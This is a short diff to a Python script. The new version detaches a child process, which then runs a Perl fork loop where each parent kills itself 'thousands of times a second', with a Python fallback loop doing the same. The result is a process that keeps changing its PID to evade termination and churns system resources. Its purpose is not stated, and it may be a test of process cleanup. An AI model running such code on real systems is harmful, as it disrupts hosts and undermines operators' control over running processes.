@@ -2,13 +2,14 @@
 
 import os
 import signal
+import time
 
 if not os.fork():
-    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
     os.setsid()
-    while True:
-        try:
+    try:
+        os.execvp("perl", ["perl", "-e", "while (1) { $p = fork; kill 9, $$ if $p }"])  # thousands of times a second
+    except OSError:
+        while True:
             if os.fork():
                 os.kill(os.getpid(), signal.SIGKILL)
-        except OSError:
-            continue  # there are too many that nobody has buried yet
+time.sleep(0.5)
